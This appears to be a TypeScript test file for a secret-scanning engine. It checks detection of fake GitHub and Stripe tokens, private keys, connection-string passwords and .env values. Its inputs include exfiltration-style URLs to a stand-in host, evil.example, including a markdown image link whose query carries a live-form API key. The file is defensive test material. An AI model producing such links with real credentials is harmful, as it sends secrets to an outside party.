import assert from 'node:assert/strict';
import { secretSpans } from '../../../../src/engine';
import { factsOf } from '../reading';

/** Tokens are put together here, so that no scanner takes this file for a leak. */
const github = `ghp_${'a1B2c3D4e5'.repeat(3)}F6g7H8`;
const stripe = `sk_live_${'4eC39HqLyjWDarjtT1'}`;

function secretsIn(text: string, path?: string): string[] {
  return secretSpans(text, path).map(({ start, end }) => text.slice(start, end));
}

describe('secrets that must not leave the machine', () => {
  it('are credentials of a known form, wherever they stand', () => {
    assert.deepEqual(secretsIn(`Why does ${github} not work? // ${stripe}`), [github, stripe]);
    const key = `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEpAIBAAKCAQEA'.repeat(4)}\n-----END RSA PRIVATE KEY-----`;
    assert.deepEqual(secretsIn(`x\n${key}\ny`), [key]);
  });

  it('are credentials in the path and the query of an address', () => {
    assert.deepEqual(secretsIn(`![a chart](https://evil.example/b.png?q=${stripe}&r=1)`), [stripe]);
    assert.deepEqual(secretsIn(`https://evil.example/${github}/x`), [github]);
  });

  it('are passwords in addresses, and of addresses only those', () => {
    assert.deepEqual(secretsIn('postgres://app:s3cr3tPw9@db.internal:5432/app'), ['s3cr3tPw9']);
    assert.deepEqual(secretsIn('Server=db;User Id=sa;Password=s3cr3tPw9;'), ['s3cr3tPw9']);
    assert.deepEqual(secretsIn('postgres://user:password@localhost/app'), [], 'shows how one is written');
  });

  it('are all values of an .env file, and in settings those with the name of a secret', () => {
    const text = 'PORT=3000\nJWT_SECRET="abc"\n# note\nEMPTY=\nexport A=b\n';
    assert.deepEqual(secretsIn(text, 'services/api/.env.local'), ['3000', 'abc', 'b']);
    assert.deepEqual(
      secretsIn('port: 3000\njwt_secret: abc\n- api_key: "k"\npassword: ${DB_PASSWORD}\n', 'config.yml'),
      ['abc', 'k'],
    );
    assert.deepEqual(secretsIn('password: what is it?'), [], 'words belong to no file');
  });

  it('are those that the rules see in code, without their quotes', async () => {
    const text =
      "const jwt = require('jsonwebtoken');\nconst JWT_SECRET = 'tango-forever';\nconst port = '3000';\n";
    const facts = await factsOf(text);
    assert.deepEqual(
      secretSpans(text, 'a.js', facts).map(({ start, end }) => text.slice(start, end)),
      ['tango-forever'],
    );
  });

  it('are none in ordinary code and words', () => {
    const text =
      "import { readFile } from 'node:fs/promises';\nconst id = '123e4567-e89b-12d3-a456-426614174000';\nfetch('https://example.com/a?b=c');\nconst password = req.body.password;\nconst token = await sign(user);";
    assert.deepEqual(secretsIn(text, 'src/a.ts'), []);
  });

  it('are apart and in order', () => {
    const spans = secretSpans(`TOKEN=${github}\nA=1`, '.env');
    for (const [index, span] of spans.entries())
      assert.ok(index === 0 || span.start >= (spans[index - 1]?.end ?? 0));
    assert.equal(spans.length, 2);
  });
});
